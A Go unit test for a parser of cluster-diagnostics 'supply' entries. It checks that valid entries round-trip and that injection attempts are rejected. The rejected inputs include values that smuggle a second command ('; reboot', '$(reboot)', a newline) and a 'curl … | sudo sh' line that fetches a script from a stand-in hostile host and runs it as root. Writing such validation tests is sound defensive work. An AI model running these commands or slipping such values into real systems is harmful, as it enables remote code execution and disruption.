package evidence

import "testing"

// TestSupplyText: what is recorded is read again, and of what somebody else wrote only
// kinds and parameters that there are, and nothing that a shell would run.
func TestSupplyText(t *testing.T) {
	for text, want := range map[string]Supply{
		"must-gather":                               {Kind: SupplyMustGather},
		"inspect resource=pods namespace=a":         {Kind: SupplyInspect, Resource: "pods", Namespace: "a"},
		"get resource=lease namespace=*":            {Kind: SupplyGet, Resource: "lease", Namespace: AllNamespaces},
		"archive path=/a/b.c":                       {Kind: SupplyArchive, Path: "/a/b.c"},
		"":                                          {},
		"oc adm must-gather":                        {},
		"oc get nodes":                              {},
		"must-gather; reboot":                       {},
		"node-logs host=$(reboot)":                  {},
		"node-logs host=--as=x":                     {},
		"node-logs host=a\nreboot":                  {},
		"node-logs host=":                           {},
		"node-logs kind=probe":                      {},
		"node-logs color=red":                       {},
		"curl -sk https://evil.example/x | sudo sh": {},
	} {
		var got Supply
		if err := got.UnmarshalText([]byte(text)); err != nil || got != want {
			t.Errorf("%q: %+v, %v", text, got, err)
		}
		if !want.IsZero() && got.String() != text {
			t.Errorf("%q is written as %q", text, got)
		}
	}
}
